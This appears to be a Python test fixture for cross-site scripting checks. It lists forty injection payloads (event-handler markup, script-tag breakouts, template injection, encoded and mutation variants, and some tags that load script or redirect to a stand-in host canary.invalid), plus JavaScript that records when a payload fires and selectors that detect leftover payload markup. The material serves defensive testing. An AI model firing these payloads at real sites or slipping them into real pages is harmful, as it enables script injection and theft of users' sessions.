"""Forty texts that would run as a script somewhere: each calls hurt(number), or asks canary.invalid for something."""

PAYLOADS = (
    "<img src=x onerror=hurt(0)>",
    "<svg onload=hurt(1)>",
    "<script>hurt(2)</script>",
    "<a href=javascript:hurt(3) autofocus onfocus=hurt(3)>x</a>",
    "${hurt(4)}",
    "{{hurt(5)}}",
    "{{constructor.constructor('hurt(6)')()}}",
    '" onmouseover="hurt(7)" x="',
    "' onmouseover='hurt(8)' x='",
    "</title><script>hurt(9)</script>",
    "</textarea><img src=x onerror=hurt(10)>",
    "</style><img src=x onerror=hurt(11)>",
    "</script><script>hurt(12)</script>",
    "[x](javascript:hurt(13))",
    "![x](https://canary.invalid/14.png)",
    "<iframe srcdoc='<script>parent.hurt(15)</script>'></iframe>",
    '<div style="width:expression(hurt(16));background:url(https://canary.invalid/16)">',
    '"}</script><script>hurt(17)</script>{"',
    "\u2028hurt(18)//\u2029",
    "<object data='data:text/html,<script>parent.hurt(19)</script>'></object>",
    "&lt;img src=x onerror=hurt(20)&gt;",
    "&amp;lt;script&amp;gt;hurt(21)&amp;lt;/script&amp;gt;",
    "%3Cimg src=x onerror=hurt(22)%3E",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hurt(23)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=hurt(24)>">',
    "<svg><animate onbegin=hurt(25) attributeName=x dur=1s>",
    "<details open ontoggle=hurt(26)>",
    "<video><source onerror=hurt(27)></video>",
    "<input autofocus onfocus=hurt(28)>",
    "<body onload=hurt(29)>",
    "<base href=https://canary.invalid/30/>",
    "<meta http-equiv=refresh content='0;url=https://canary.invalid/31'>",
    "<link rel=stylesheet href=https://canary.invalid/32.css>",
    "<form action=https://canary.invalid/33><button>x</button></form>",
    "\\u003cimg src=x onerror=hurt(34)\\u003e \\x3csvg onload=hurt(34)\\x3e",
    "`-hurt(35)-`';hurt(35);//\";hurt(35);//",
    "\uff1cimg src=x onerror=hurt(36)\uff1e \u202e<b onclick=hurt(36)>",
    "<ScRiPt/src=//canary.invalid/37.js></sCrIpT>",
    "<x-canary onclick=hurt(38) style=animation:x>x</x-canary>",
    "<!--><img src=x onerror=hurt(39)>-->",
)

# What hears that one of them runs: calls, dialogs, broken rules. In the page before anything else.
LISTEN_JS = """
window.hurts = [];
window.hurt = (number) => { window.hurts.push(String(number)); };
for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.hurt(name);
"""

# Ends when a picture that is not there has said so: by then, whatever was in the page before has done what it would.
PROBE_JS = """() => new Promise((done) => {
  const probe = document.createElement('img');
  probe.onerror = () => { probe.remove(); done(); };
  probe.src = 'probe';
  document.body.append(probe);
})"""

# Elements and attributes that only a payload makes; the app's own pages have none of them.
TRACES_JS = """() => [...document.querySelectorAll(
  '[onerror],[onload],[onfocus],[onmouseover],[onbegin],[ontoggle],[onclick],x-canary,iframe[srcdoc],object,' +
  'img[src="x"],math,[href*="canary.invalid"],[src*="canary.invalid"],[action*="canary.invalid"],' +
  'a[href^="javascript"],meta[http-equiv=refresh],[style*="canary.invalid"],video source'
)].map(element => element.outerHTML.slice(0, 200))"""
